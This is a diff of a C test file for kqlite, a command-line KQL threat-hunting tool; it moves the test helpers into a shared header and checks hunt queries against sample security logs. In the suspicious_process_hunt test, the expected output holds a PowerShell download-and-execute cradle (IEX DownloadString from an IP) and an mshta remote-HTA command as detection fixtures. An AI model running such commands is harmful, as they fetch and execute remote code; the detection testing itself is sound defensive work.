@@ -25,108 +25,10 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
-/* What one run of the binary produced. */
-typedef struct CliRun CliRun;
-struct CliRun {
-  int rc;               /* exit code; 128+N when killed by signal N */
-  char *zOut;           /* standard output (malloc'ed, NUL-terminated) */
-  char *zErr;           /* standard error */
-};
+#include "clirun.h"
 
-static const char *binary(void){
-  const char *z = getenv("KQLITE");
-  return z && z[0] ? z : "build/kqlite";
-}
-
-/* Whole contents of the open file fd, from its start. */
-static char *slurpFd(int fd){
-  size_t n = 0, nAlloc = 4096;
-  char *z = malloc(nAlloc);
-  cr_assert_not_null(z);
-  lseek(fd, 0, SEEK_SET);
-  for(;;){
-    ssize_t got;
-    if( n+1>=nAlloc ){
-      nAlloc *= 2;
-      z = realloc(z, nAlloc);
-      cr_assert_not_null(z);
-    }
-    got = read(fd, z+n, nAlloc-n-1);
-    if( got<0 && errno==EINTR ) continue;
-    if( got<=0 ) break;
-    n += (size_t)got;
-  }
-  z[n] = 0;
-  return z;
-}
-
-/*
-** Run the binary with the NULL-terminated argument list azArg (azArg[0] is
-** the first argument after the program name), from the repository root.
-*/
-static CliRun cliRunv(const char *const *azArg){
-  CliRun r;
-  char zOutPath[] = "/tmp/kqlite-cli-out.XXXXXX";
-  char zErrPath[] = "/tmp/kqlite-cli-err.XXXXXX";
-  int fdOut = mkstemp(zOutPath), fdErr = mkstemp(zErrPath);
-  int nArg = 0, status = 0;
-  const char *zBin = binary();
-  pid_t pid;
-  cr_assert(fdOut>=0 && fdErr>=0, "mkstemp failed");
-  unlink(zOutPath);
-  unlink(zErrPath);
-  cr_assert_eq(access(zBin, X_OK), 0,
-               "%s is not an executable (build it, or point KQLITE at the binary)", zBin);
-  while( azArg[nArg] ) nArg++;
-  char **azArgv = calloc((size_t)nArg+2, sizeof(char*));
-  azArgv[0] = (char*)zBin;
-  for(int i=0; i<nArg; i++) azArgv[i+1] = (char*)azArg[i];
-  fflush(stdout);
-  fflush(stderr);
-  pid = fork();
-  cr_assert_neq(pid, -1);
-  if( pid==0 ){
-    int fdNull = open("/dev/null", O_RDONLY);
-    if( fdNull>=0 ) dup2(fdNull, 0);
-    dup2(fdOut, 1);
-    dup2(fdErr, 2);
-    alarm(60);
-    execv(zBin, azArgv);
-    _exit(127);
-  }
-  while( waitpid(pid, &status, 0)<0 && errno==EINTR ){}
-  free(azArgv);
-  r.rc = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
-  r.zOut = slurpFd(fdOut);
-  r.zErr = slurpFd(fdErr);
-  close(fdOut);
-  close(fdErr);
-  return r;
-}
-
-#define cliRun(...) cliRunv((const char *const[]){__VA_ARGS__, NULL})
-
-static void cliFree(CliRun *r){
-  free(r->zOut);
-  free(r->zErr);
-}
-
-/* Check the exit code, with both streams in the message when it is wrong.
-** Not fatal, so the test still frees its buffers (no leak reports under
-** make sanitize on top of the real failure). */
-static void expectRc(const CliRun *r, int rc){
-  cr_expect_eq(r->rc, rc, "exit code %d, expected %d\n--- stdout:\n%s--- stderr:\n%s",
-               r->rc, rc, r->zOut, r->zErr);
-}
-
-static void expectOut(const CliRun *r, const char *zWant){
-  cr_expect_str_eq(r->zOut, zWant, "--- stdout:\n%s--- expected:\n%s--- stderr:\n%s",
-                   r->zOut, zWant, r->zErr);
-}
-
-static void expectErrHas(const CliRun *r, const char *zPart){
-  cr_expect_not_null(strstr(r->zErr, zPart), "stderr lacks \"%s\":\n%s", zPart, r->zErr);
-}
+typedef KqlCliRun CliRun;
+#define cliRun(...) kqlcliRun(0, 0, (const char *const[]){__VA_ARGS__, NULL})
 
 /* A scratch directory, removed by the test's own process at exit. */
 static char *scratchDir(void){
@@ -159,111 +61,111 @@ static void removeDir(const char *zDir){
 /****************************************************************** usage */
 
 Test(cli, no_arguments_is_a_usage_error){
-  CliRun r = cliRunv((const char *const[]){NULL});
-  expectRc(&r, 2);
-  expectErrHas(&r, "usage: kqlite run");
-  expectOut(&r, "");
-  cliFree(&r);
+  CliRun r = kqlcliRun(0, 0, (const char *const[]){NULL});
+  kqlcliExpectRc(&r, 2);
+  kqlcliExpectErrHas(&r, "usage: kqlite run");
+  kqlcliExpectOut(&r, "");
+  kqlcliFree(&r);
 }
 
 Test(cli, help_goes_to_stdout){
   CliRun r = cliRun("--help");
-  expectRc(&r, 0);
+  kqlcliExpectRc(&r, 0);
   cr_expect_not_null(strstr(r.zOut, "usage: kqlite run"));
   cr_expect_str_eq(r.zErr, "");
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, run_without_query){
   CliRun r = cliRun("run");
-  expectRc(&r, 2);
-  expectErrHas(&r, "no query");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 2);
+  kqlcliExpectErrHas(&r, "no query");
+  kqlcliFree(&r);
 }
 
 Test(cli, unknown_option){
   CliRun r = cliRun("run", "--bogus", "-e", "print 1");
-  expectRc(&r, 2);
-  expectErrHas(&r, "unknown option '--bogus'");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 2);
+  kqlcliExpectErrHas(&r, "unknown option '--bogus'");
+  kqlcliFree(&r);
 }
 
 Test(cli, unknown_command){
   CliRun r = cliRun("frobnicate");
-  expectRc(&r, 2);
-  expectErrHas(&r, "unknown command 'frobnicate'");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 2);
+  kqlcliExpectErrHas(&r, "unknown command 'frobnicate'");
+  kqlcliFree(&r);
 }
 
 Test(cli, unknown_format){
   CliRun r = cliRun("run", "--format", "xml", "-e", "print 1");
-  expectRc(&r, 2);
-  expectErrHas(&r, "unknown format 'xml'");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 2);
+  kqlcliExpectErrHas(&r, "unknown format 'xml'");
+  kqlcliFree(&r);
 }
 
 Test(cli, option_missing_its_value){
   CliRun r = cliRun("run", "-e");
-  expectRc(&r, 2);
-  expectErrHas(&r, "-e needs a value");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 2);
+  kqlcliExpectErrHas(&r, "-e needs a value");
+  kqlcliFree(&r);
 }
 
 Test(cli, bad_now){
   CliRun r = cliRun("run", "--now", "yesterday-ish", "-e", "print 1");
-  expectRc(&r, 2);
-  expectErrHas(&r, "--now");
-  expectErrHas(&r, "yesterday-ish");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 2);
+  kqlcliExpectErrHas(&r, "--now");
+  kqlcliExpectErrHas(&r, "yesterday-ish");
+  kqlcliFree(&r);
 }
 
 Test(cli, missing_query_file){
   CliRun r = cliRun("run", "queries/no-such-hunt.kql");
-  expectRc(&r, 2);
-  expectErrHas(&r, "queries/no-such-hunt.kql");
-  expectOut(&r, "");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 2);
+  kqlcliExpectErrHas(&r, "queries/no-such-hunt.kql");
+  kqlcliExpectOut(&r, "");
+  kqlcliFree(&r);
 }
 
 Test(cli, table_option_needs_name_and_path){
   CliRun r = cliRun("run", "--table", "Firewall", "-e", "Firewall | count");
-  expectRc(&r, 2);
-  expectErrHas(&r, "NAME=PATH");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 2);
+  kqlcliExpectErrHas(&r, "NAME=PATH");
+  kqlcliFree(&r);
 }
 
 /****************************************************************** -e and output */
 
 Test(cli, inline_query_csv_when_not_a_terminal){
   CliRun r = cliRun("run", "-e", "print x = 1 + 1, s = strcat('a', 'b')");
-  expectRc(&r, 0);
-  expectOut(&r, "x,s\n2,ab\n");
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r, "x,s\n2,ab\n");
   cr_expect_str_eq(r.zErr, "");
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, inline_query_json){
   CliRun r = cliRun("run", "--format", "json", "-e", "print n = 2 * 21, b = 1 < 2, s = 'x'");
-  expectRc(&r, 0);
-  expectOut(&r,
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r,
     "{\"columns\":[{\"name\":\"n\",\"type\":\"long\"},{\"name\":\"b\",\"type\":\"bool\"},"
     "{\"name\":\"s\",\"type\":\"string\"}],\"rows\":[\n[42,true,\"x\"]\n]}\n");
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, inline_range_table_format){
   CliRun r = cliRun("run", "--format", "table", "-e", "range i from 8 to 11 step 1");
-  expectRc(&r, 0);
-  expectOut(&r, " i\n--\n 8\n 9\n10\n11\n");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r, " i\n--\n 8\n 9\n10\n11\n");
+  kqlcliFree(&r);
 }
 
 Test(cli, now_pins_now_and_ago){
   CliRun r = cliRun("run", "--now", "2026-06-05T00:00:00Z", "-e",
                     "print t = now(), a = ago(1d), h = ago(90m)");
-  expectRc(&r, 0);
-  expectOut(&r, "t,a,h\n2026-06-05T00:00:00Z,2026-06-04T00:00:00Z,2026-06-04T22:30:00Z\n");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r, "t,a,h\n2026-06-05T00:00:00Z,2026-06-04T00:00:00Z,2026-06-04T22:30:00Z\n");
+  kqlcliFree(&r);
 }
 
 Test(cli, ago_filters_with_now){
@@ -273,9 +175,9 @@ Test(cli, ago_filters_with_now){
     "datatable(T:datetime, n:long)[datetime(2026-06-06T12:00:00Z), 1, datetime(2026-06-07T11:00:00Z), 2,"
     " datetime(2026-06-09T00:00:00Z), 3, datetime(2026-06-10T11:59:59Z), 4]"
     " | where T > ago(2d) | project n");
-  expectRc(&r, 0);
-  expectOut(&r, "n\n3\n4\n");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r, "n\n3\n4\n");
+  kqlcliFree(&r);
 }
 
 /****************************************************************** errors */
@@ -285,15 +187,15 @@ Test(cli, syntax_error_is_located){
   char *zPath = writeFile(zDir, "bad.kql", "print a = 1\n| where a > > 2\n");
   CliRun r = cliRun("run", zPath);
   char zWantHead[300];
-  expectRc(&r, 1);
-  expectOut(&r, "");
+  kqlcliExpectRc(&r, 1);
+  kqlcliExpectOut(&r, "");
   /* the second '>' is on line 2, column 13 */
   snprintf(zWantHead, sizeof(zWantHead), "%s:2:13: error: ", zPath);
   cr_expect_eq(strncmp(r.zErr, zWantHead, strlen(zWantHead)), 0,
                "stderr should start with \"%s\":\n%s", zWantHead, r.zErr);
-  expectErrHas(&r, "syntax error");
-  expectErrHas(&r, "\n  | where a > > 2\n              ^\n");
-  cliFree(&r);
+  kqlcliExpectErrHas(&r, "syntax error");
+  kqlcliExpectErrHas(&r, "\n  | where a > > 2\n              ^\n");
+  kqlcliFree(&r);
   removeDir(zDir);
   free(zPath);
   free(zDir);
@@ -301,28 +203,28 @@ Test(cli, syntax_error_is_located){
 
 Test(cli, syntax_error_inline_query){
   CliRun r = cliRun("run", "-e", "print (1");
-  expectRc(&r, 1);
+  kqlcliExpectRc(&r, 1);
   cr_expect_eq(strncmp(r.zErr, "<query>:1:", 10), 0, "stderr: %s", r.zErr);
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, unknown_column_is_a_query_error){
   CliRun r = cliRun("run", "-e", "print a = 1 | project b");
-  expectRc(&r, 1);
+  kqlcliExpectRc(&r, 1);
   cr_expect_eq(strncmp(r.zErr, "<query>:1:", 10), 0, "stderr: %s", r.zErr);
   cr_expect(strstr(r.zErr, "'b'") || strstr(r.zErr, "\"b\""),
             "the message quotes the column name: %s", r.zErr);
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, unknown_table_names_table_and_directory){
   char *zDir = scratchDir();
   CliRun r = cliRun("run", "--data", zDir, "-e", "NoSuchTable | take 1");
-  expectRc(&r, 2);
-  expectErrHas(&r, "NoSuchTable");
-  expectErrHas(&r, zDir);
-  expectOut(&r, "");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 2);
+  kqlcliExpectErrHas(&r, "NoSuchTable");
+  kqlcliExpectErrHas(&r, zDir);
+  kqlcliExpectOut(&r, "");
+  kqlcliFree(&r);
   removeDir(zDir);
   free(zDir);
 }
@@ -331,10 +233,10 @@ Test(cli, catalogue_table_without_file){
   /* SigninLogs is a known schema, but the directory has no file for it */
   char *zDir = scratchDir();
   CliRun r = cliRun("run", "--data", zDir, "-e", "SigninLogs | take 1");
-  expectRc(&r, 2);
-  expectErrHas(&r, "SigninLogs");
-  expectErrHas(&r, zDir);
-  cliFree(&r);
+  kqlcliExpectRc(&r, 2);
+  kqlcliExpectErrHas(&r, "SigninLogs");
+  kqlcliExpectErrHas(&r, zDir);
+  kqlcliFree(&r);
   removeDir(zDir);
   free(zDir);
 }
@@ -352,9 +254,9 @@ Test(cli, table_option_loads_a_csv){
   snprintf(zSpec, sizeof(zSpec), "Firewall=%s", zCsv);
   CliRun r = cliRun("run", "--table", zSpec, "-e",
                     "Firewall | where Port == 12159 | summarize n = count() by Src");
-  expectRc(&r, 0);
-  expectOut(&r, "Src,n\n10.0.0.5,2\n");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r, "Src,n\n10.0.0.5,2\n");
+  kqlcliFree(&r);
   removeDir(zDir);
   free(zCsv);
   free(zDir);
@@ -365,11 +267,11 @@ Test(cli, malformed_data_is_located){
   char *zCsv = writeFile(zDir, "Broken.csv", "a,b\n1,2\n3,\"unterminated\n");
   CliRun r = cliRun("run", "--data", zDir, "-e", "Broken | count");
   char zWant[300];
-  expectRc(&r, 2);
+  kqlcliExpectRc(&r, 2);
   snprintf(zWant, sizeof(zWant), "%s:3:", zCsv);
-  expectErrHas(&r, zWant);
-  expectOut(&r, "");
-  cliFree(&r);
+  kqlcliExpectErrHas(&r, zWant);
+  kqlcliExpectOut(&r, "");
+  kqlcliFree(&r);
   removeDir(zDir);
   free(zCsv);
   free(zDir);
@@ -381,10 +283,10 @@ Test(cli, several_files_are_labelled){
   char *zB = writeFile(zDir, "b.kql", "print y = 'two'\n");
   char zWant[600];
   CliRun r = cliRun("run", zA, zB);
-  expectRc(&r, 0);
+  kqlcliExpectRc(&r, 0);
   snprintf(zWant, sizeof(zWant), "==> %s\nx\n1\n\n==> %s\ny\ntwo\n", zA, zB);
-  expectOut(&r, zWant);
-  cliFree(&r);
+  kqlcliExpectOut(&r, zWant);
+  kqlcliFree(&r);
   removeDir(zDir);
   free(zA);
   free(zB);
@@ -421,26 +323,26 @@ static const char zCslHits[] =
 
 Test(cli, dcrat_commonsecuritylog_hunt){
   CliRun r = cliRun("run", "queries/dcrat-commonsecuritylog.kql", "--data", "tables/samples/");
-  expectRc(&r, 0);
-  expectOut(&r, zCslHits);
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r, zCslHits);
   cr_expect_str_eq(r.zErr, "");
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, dcrat_hunt_via_table_option){
   /* the same hunt with the file named explicitly instead of --data */
   CliRun r = cliRun("run", "--table", "CommonSecurityLog=tables/samples/CommonSecurityLog.csv",
                     "queries/dcrat-commonsecuritylog.kql");
-  expectRc(&r, 0);
-  expectOut(&r, zCslHits);
-  cliFree(&r);
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r, zCslHits);
+  kqlcliFree(&r);
 }
 
 Test(cli, dcrat_devicenetworkevents_hunt_json){
   CliRun r = cliRun("run", "--format", "json", "--data", "tables/samples/",
                     "queries/dcrat-devicenetworkevents.kql");
-  expectRc(&r, 0);
-  expectOut(&r,
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r,
     "{\"columns\":[{\"name\":\"Timestamp\",\"type\":\"datetime\"},{\"name\":\"DeviceName\",\"type\":\"string\"},{\"name\":\"RemoteIP\",\"type\":\"string\"},{\"name\":\"RemotePort\",\"type\":\"int\"},{\"name\":\"InitiatingProcessFileName\",\"type\":\"string\"},{\"name\":\"ActionType\",\"type\":\"string\"}],\"rows\":[\n"
     "[\"2026-06-03T09:54:31Z\",\"srv-db01.contoso.local\",\"82.23.246.160\",12159,\"svchost32.exe\",\"ConnectionSuccess\"],\n"
     "[\"2026-06-03T09:51:31Z\",\"srv-db01.contoso.local\",\"82.23.246.160\",12159,\"svchost32.exe\",\"ConnectionSuccess\"],\n"
@@ -461,34 +363,34 @@ Test(cli, dcrat_devicenetworkevents_hunt_json){
     "[\"2026-06-03T08:15:04.1234567Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
     "[\"2026-06-03T07:58:12.5000000Z\",\"ws-0117.contoso.local\",\"82.23.246.160\",80,\"powershell.exe\",\"ConnectionSuccess\"]\n"
     "]}\n");
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, port_hunt_with_now){
   CliRun r = cliRun("run", "--now", "2026-06-05T00:00:00Z", "--data", "tables/samples/",
                     "queries/dcrat-port-12159.kql");
-  expectRc(&r, 0);
-  expectOut(&r,
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r,
     "DeviceName,RemoteIP,Connections,FirstSeen,LastSeen,Processes\n"
     "ws-0142.contoso.local,156.247.40.190,13,2026-06-03T08:15:04.1234567Z,2026-06-03T09:20:04Z,\"[\"\"AudioDriver.exe\"\"]\"\n"
     "srv-db01.contoso.local,82.23.246.160,4,2026-06-03T09:45:31Z,2026-06-03T09:54:31Z,\"[\"\"svchost32.exe\"\"]\"\n"
     "ws-0203.contoso.local,45.133.1.7,2,2026-06-04T14:00:00Z,2026-06-04T14:05:00Z,\"[\"\"update.exe\"\"]\"\n");
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, port_hunt_window_moves_with_now){
   /* a week after the last sample event nothing is inside the 7-day window */
   CliRun r = cliRun("run", "--now", "2026-06-20T00:00:00Z", "--data", "tables/samples/",
                     "queries/dcrat-port-12159.kql");
-  expectRc(&r, 0);
-  expectOut(&r, "DeviceName,RemoteIP,Connections,FirstSeen,LastSeen,Processes\n");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r, "DeviceName,RemoteIP,Connections,FirstSeen,LastSeen,Processes\n");
+  kqlcliFree(&r);
 }
 
 Test(cli, beaconing_hunt){
   CliRun r = cliRun("run", "--data", "tables/samples/", "queries/beaconing-top-talkers.kql");
-  expectRc(&r, 0);
-  expectOut(&r,
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r,
     "RemoteIP,RemotePort,Connections,Devices\n"
     "13.69.109.131,443,36,7\n"
     "104.16.132.229,443,32,7\n"
@@ -500,17 +402,17 @@ Test(cli, beaconing_hunt){
     "142.250.74.110,443,21,6\n"
     "20.190.151.7,443,20,7\n"
     "156.247.40.190,12159,12,1\n");
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, suspicious_process_hunt){
   CliRun r = cliRun("run", "--data", "tables/samples/", "queries/suspicious-process-network.kql");
-  expectRc(&r, 0);
-  expectOut(&r,
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r,
     "Timestamp,DeviceName,InitiatingProcessFileName,RemoteIP,RemotePort,Cradle,InitiatingProcessCommandLine\n"
     "2026-06-03T07:58:12.5000000Z,ws-0117.contoso.local,powershell.exe,82.23.246.160,80,true,\"powershell.exe -nop -w hidden -c \"\"IEX (New-Object Net.WebClient).DownloadString('http://82.23.246.160/stage.ps1')\"\"\"\n"
     "2026-06-02T16:30:00Z,ws-0155.contoso.local,mshta.exe,23.45.67.89,80,true,mshta.exe http://23.45.67.89/a.hta\n");
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, firewall_summary_hunt){
@@ -528,7 +430,7 @@ Test(cli, firewall_summary_hunt){
   CliRun r = cliRun("run", "--data", "tables/samples/", "queries/firewall-blocked-summary.kql");
   char *zSave = 0, *zLine;
   int i = -1;
-  expectRc(&r, 0);
+  kqlcliExpectRc(&r, 0);
   for(zLine = strtok_r(r.zOut, "\n", &zSave); zLine; zLine = strtok_r(0, "\n", &zSave), i++){
     if( i<0 ){
       cr_expect_str_eq(zLine, "SourceIP,Denied,Destinations,Ports,LastSeen");
@@ -569,20 +471,20 @@ Test(cli, firewall_summary_hunt){
     }
   }
   cr_expect_eq(i, 8, "expected 8 rows, got %d", i);
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, datatable_hunt_needs_no_data){
   /* By hand: WS-0142 has 2 connections, both to a C2 on 12159; SRV-DB01 one,
   ** to a C2 on 12159; WS-0117 two on 443 (below 1024). Sorted by ToC2 desc. */
   CliRun r = cliRun("run", "queries/triage-exported-connections.kql");
-  expectRc(&r, 0);
-  expectOut(&r,
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r,
     "Host,Connections,ToC2,HighPorts,LastSeen\n"
     "WS-0142,2,2,2,2026-06-03T08:20:00Z\n"
     "SRV-DB01,1,1,1,2026-06-03T09:45:31Z\n"
     "WS-0117,2,0,0,2026-06-03T10:00:00Z\n");
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, every_bundled_hunt_runs){
@@ -594,11 +496,11 @@ Test(cli, every_bundled_hunt_runs){
                     "queries/firewall-blocked-summary.kql", "queries/suspicious-process-network.kql",
                     "queries/triage-exported-connections.kql");
   int nLabel = 0;
-  expectRc(&r, 0);
+  kqlcliExpectRc(&r, 0);
   cr_expect_str_eq(r.zErr, "");
   for(const char *z = r.zOut; (z = strstr(z, "==> queries/"))!=0; z++) nLabel++;
   cr_expect_eq(nLabel, 7);
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 /****************************************************************** the operators the hunts rely on */
@@ -611,14 +513,14 @@ Test(cli, string_operators){
     " 'cdn.microsoft.com'] | extend h = u has 'microsoft', c = u contains 'MICRO',"
     " s = u startswith 'www', e = u endswith '.COM', n = u !in ('evil.example.net'),"
     " m = u matches regex @'^[a-z]+\\.microsoft'");
-  expectRc(&r, 0);
-  expectOut(&r,
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r,
     "u,h,c,s,e,n,m\n"
     "login.microsoftonline.com,false,true,false,true,true,true\n"
     "www.Microsoft.com,true,true,true,true,true,false\n"
     "evil.example.net,false,false,false,false,false,false\n"
     "cdn.microsoft.com,true,true,false,true,true,true\n");
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, summarize_aggregates){
@@ -626,9 +528,9 @@ Test(cli, summarize_aggregates){
     "datatable(k:string, v:long)['a', 1, 'b', 5, 'a', 3]"
     " | summarize n = count(), s = sum(v), a = avg(v), lo = min(v), hi = max(v), d = dcount(v),"
     " big = countif(v > 2) by k | order by k asc");
-  expectRc(&r, 0);
-  expectOut(&r, "k,n,s,a,lo,hi,d,big\na,2,4,2,1,3,2,1\nb,1,5,5,5,5,1,1\n");
-  cliFree(&r);
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r, "k,n,s,a,lo,hi,d,big\na,2,4,2,1,3,2,1\nb,1,5,5,5,5,1,1\n");
+  kqlcliFree(&r);
 }
 
 Test(cli, arg_max_and_arg_min){
@@ -636,12 +538,12 @@ Test(cli, arg_max_and_arg_min){
   CliRun r = cliRun("run", "-e",
     "datatable(k:string, v:long, t:datetime)['a', 1, datetime(2026-01-01), 'a', 3, datetime(2026-01-03),"
     " 'b', 5, datetime(2026-01-02)] | summarize arg_max(t, v), arg_min(t, v) by k | order by k asc");
-  expectRc(&r, 0);
-  expectOut(&r,
+  kqlcliExpectRc(&r, 0);
+  kqlcliExpectOut(&r,
     "k,t,v,t1,v1\n"
     "a,2026-01-03T00:00:00Z,3,2026-01-01T00:00:00Z,1\n"
     "b,2026-01-02T00:00:00Z,5,2026-01-02T00:00:00Z,5\n");
-  cliFree(&r);
+  kqlcliFree(&r);
 }
 
 Test(cli, top_count_distinct_limit){
@@ -649,16 +551,16 @@ Test(cli, top_count_distinct_limit){
   CliRun r2 = cliRun("run", "-e", "range i from 1 to 9 step 2 | where i > 3 | count");
   CliRun r3 = cliRun("run", "-e", "datatable(s:string)['b', 'a', 'b'] | distinct s | sort by s asc");
   CliRun r4 = cliRun("run", "-e", "range i from 1 to 100 step 1 | limit 3 | summarize n = count()");
-  expectRc(&r1, 0);
-  expectOut(&r1, "i\n9\n7\n");
-  expectRc(&r2, 0);
-  expectOut(&r2, "Count\n3\n");
-  expectRc(&r3, 0);
-  expectOut(&r3, "s\na\nb\n");
-  expectRc(&r4, 0);
-  expectOut(&r4, "n\n3\n");
-  cliFree(&r1);
-  cliFree(&r2);
-  cliFree(&r3);
-  cliFree(&r4);
+  kqlcliExpectRc(&r1, 0);
+  kqlcliExpectOut(&r1, "i\n9\n7\n");
+  kqlcliExpectRc(&r2, 0);
+  kqlcliExpectOut(&r2, "Count\n3\n");
+  kqlcliExpectRc(&r3, 0);
+  kqlcliExpectOut(&r3, "s\na\nb\n");
+  kqlcliExpectRc(&r4, 0);
+  kqlcliExpectOut(&r4, "n\n3\n");
+  kqlcliFree(&r1);
+  kqlcliFree(&r2);
+  kqlcliFree(&r3);
+  kqlcliFree(&r4);
 }
